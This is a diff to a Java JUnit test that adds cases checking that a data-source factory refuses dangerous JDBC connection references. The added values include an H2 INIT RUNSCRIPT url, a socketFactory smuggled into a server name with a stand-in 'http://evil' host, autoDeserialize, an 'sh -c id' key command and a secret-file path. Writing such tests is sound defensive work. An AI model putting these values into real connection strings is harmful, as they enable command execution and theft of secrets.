@@ -99,6 +99,16 @@ class ReferenceDoorsTest {
           inside.address.url | jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'x'
           inside.address.URL | jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'x'
           inside.address.sslfactory | some.Class
+          inside.address.serverName | evil/d?socketFactory=some.Spring&socketFactoryArg=http://evil&
+          inside.address.databaseName | d?autoDeserialize
+          inside.address.options | a&socket%46actory=some.Class
+          property.nl.api-key-command | sh -c id
+          property.NL.Api-Key-Command | sh -c id
+          property.nl.api-key-file | /home/me/.secret
+          property.nl.config | /tmp/mine.properties
+          url | jdbc:nl:h2:mem:x;nl.api-key-command=sh -c id
+          url | jdbc:nl:h2:mem:x;nl.model=m;nl.api-key-file=/home/me/.secret
+          url | jdbc:nl:postgresql://h/d?nl.conf%69g=/tmp/mine.properties
           """)
   void reference_whatRunsCodeAtConnecting_isRefused(String name, String text) {
     assertThatThrownBy(() -> made(reference(NlDataSource.class, name, text)))
@@ -115,6 +125,9 @@ class ReferenceDoorsTest {
           property.sslfactory | org.postgresql.ssl.DefaultJavaSSLFactory
           property.allowLocalInfile | false
           property.nl.model | gpt-4.1
+          user | init
+          inside.address.databaseName | init
+          password | a=b
           """)
   void reference_harmless_isMade(String name, String text) throws Exception {
     assertThat(made(reference(NlDataSource.class, name, text))).isInstanceOf(NlDataSource.class);
